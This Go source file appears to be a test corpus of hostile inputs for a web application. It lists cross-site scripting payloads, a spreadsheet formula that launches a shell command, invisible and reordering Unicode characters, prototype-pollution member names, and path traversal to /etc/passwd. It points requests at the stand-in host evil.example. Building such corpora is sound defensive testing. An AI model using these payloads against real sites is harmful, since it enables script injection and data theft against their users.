// Package hostile is a corpus of inputs that attack: words that would be markup or
// code if anything took them for that, characters that nobody sees, members with the
// names of JavaScript's own machinery, documents that are too deep or too large, and
// addresses that lead elsewhere.
//
// It is for tests, which hold every way into the program to the same corpus. It
// promises that what each of its words would do is to call alert, to set
// window.hostile, or to ask the host evil.example for something, all of which a test
// can listen for.
package hostile

import (
	"bytes"
	"encoding/json"
	"fmt"
	"slices"
	"strings"
	"time"

	"gainsay/internal/anchor"
	"gainsay/internal/article"
	"gainsay/internal/dossier"
	"gainsay/internal/text"
)

// Markup are words that would be markup or code in a page, an attribute, a style, a
// template, a script or a table.
func Markup() []string {
	return []string{
		`<script>window.hostile = 1</script>`,
		`</script><script>alert(2)</script>`,
		`"><img src=x onerror="window.hostile = 3">`,
		`' onfocus='window.hostile = 4' autofocus='`,
		`<svg/onload=alert(5)><animate onbegin=alert(5) attributeName=x>`,
		`<iframe srcdoc="<script>parent.hostile = 6</script>"></iframe>`,
		`<a href="javascript:window.hostile=7" autofocus>press</a>`,
		`<math><mtext><table><mglyph><style><img title="</style><img src onerror=alert(8)>">`,
		`<details open ontoggle=alert(9)>`,
		`<form action="https://evil.example/10"><input name=a><button>send</button></form>`,
		`<base href="https://evil.example/11/"><link rel=stylesheet href=12>`,
		`<meta http-equiv="refresh" content="0;url=https://evil.example/13">`,
		`<video src="https://evil.example/14" autoplay><source onerror=alert(14)></video>`,
		`<style>@import "https://evil.example/15"; body { background: url(https://evil.example/16) }</style>`,
		`</textarea></title></template></noscript><img src=x onerror=alert(17)>`,
		`<!--><script>alert(18)</script>-->`,
		`&lt;script&gt;alert(19)&lt;/script&gt; &#60;img src=x onerror=alert(19)&#62;`,
		`[press](javascript:alert(20)) ![x](https://evil.example/20.png)`,
		`{{constructor.constructor("alert(21)")()}} ${alert(21)} #{alert(21)}`,
		`=HYPERLINK("https://evil.example/22";"press") +cmd|' /C calc'!A0 @SUM(1)`,
		`<portal src="https://evil.example/23"></portal><object data="https://evil.example/24"></object>`,
	}
}

// Disguised are words that hold what nobody sees, or that are shown in another order
// than they are written in.
func Disguised() []string {
	return []string{
		"Japan de\u200Bnied this",
		"Beijing \u202Edeined\u202C this",
		"\u2066\u202Eevil\u2069\u2069 words",
		"pass\u00ADword of the minis\u2060ter",
		"\uFEFFa mark in the \uFEFFmiddle",
		"tags \U000E0061\U000E0062\U000E007F after words",
		"a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030A\u030B\u030C pile of marks",
		strings.Repeat("\u202B", 200) + "deep in embeddings",
	}
}

// Members are the names of JavaScript's own machinery, as members of an object.
func Members() map[string]json.RawMessage {
	members := make(map[string]json.RawMessage)
	for _, name := range []string{"__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "__defineGetter__", "value", "expiresAt"} {
		members[name] = json.RawMessage(`{"hostile":true,"toString":"no function"}`)
	}
	return members
}

// Deep is a document of so many levels: n times open, then what is in the middle, then
// n times close.
func Deep(n int, open, middle, close string) []byte {
	return slices.Concat(bytes.Repeat([]byte(open), n), []byte(middle), bytes.Repeat([]byte(close), n))
}

// Addresses are parts of an address of the page that ask for what they may not have:
// for the parameters article, dossier and received, and for the fragment's claim.
func Addresses() []string {
	return []string{
		"javascript:alert(1)", "data:text/html,<script>alert(2)</script>", "//evil.example/3", `/\evil.example/4`, "/\t/evil.example/5",
		"https://evil.example/6", "/web/../../../etc/passwd", "/%2e%2e/%00", "/\x00", "\u202E/txt.elcitra", "__proto__", "<img src=x onerror=alert(7)>",
		"/" + strings.Repeat("a", 5000), "urn:uuid:00000000-0000-0000-0000-000000000000",
	}
}

// Dossier is a valid dossier with such words in all the places that take words: the
// text itself, its metadata, and a claim on each of them that says them again.
func Dossier() (*dossier.Dossier, error) {
	at := time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)
	var ids int
	id := func() dossier.ID {
		ids++
		return dossier.ID(fmt.Sprintf("urn:uuid:bad00000-0000-4000-8000-%012d", ids))
	}
	words := slices.Concat(Markup(), Disguised())
	var blocks []article.Block
	for _, w := range words {
		blocks = append(blocks, article.Block{Kind: article.KindParagraph, Text: w})
	}
	a := article.Article{Blocks: blocks, Metadata: article.Metadata{
		Title: words[0], Byline: words[2], Publisher: words[4], URL: `https://evil.example/?"><script>alert(30)</script>`,
	}}
	layout := article.NewLayout(a)
	d := dossier.New(id(), id(), a, at)
	d.Name, d.Extra = words[1], Members()
	start := text.CodePoint(0)
	for _, w := range words {
		end := start + text.CodePoint(len([]rune(w)))
		place, err := anchor.Describe(layout.Index(), layout.Digest(), text.Span{Start: start, End: end})
		if err != nil {
			return nil, err
		}
		start = end + 2 // between blocks stand two ends of lines
		d.Claims = append(d.Claims, &dossier.Claim{
			ID: id(), Standing: dossier.Standing{Anchor: place}, Stance: dossier.Assert,
			Attribution: dossier.Attribution{Source: dossier.Part{Text: w}, Cue: dossier.Part{Text: w}, Content: dossier.Part{Text: w}},
			Statement:   w, Note: w, Tags: []string{w}, Creator: w, Created: at, Modified: at, Extra: Members(),
			Evidence: dossier.List[*dossier.Evidence]{{
				ID: id(), URL: `https://evil.example/?"onclick="alert(31)`, Title: w, Excerpt: w, Note: w, Relation: dossier.Supports, Created: at, Modified: at,
			}},
		})
	}
	for i := 1; i < len(d.Claims); i++ {
		d.Oppositions = append(d.Oppositions, &dossier.Opposition{
			ID: id(), Kind: dossier.Denies, From: d.Claims[i].ID, To: d.Claims[i-1].ID, Topic: words[i], Note: words[i], Origin: dossier.Human, Created: at, Modified: at,
		})
	}
	return d, d.Validate()
}
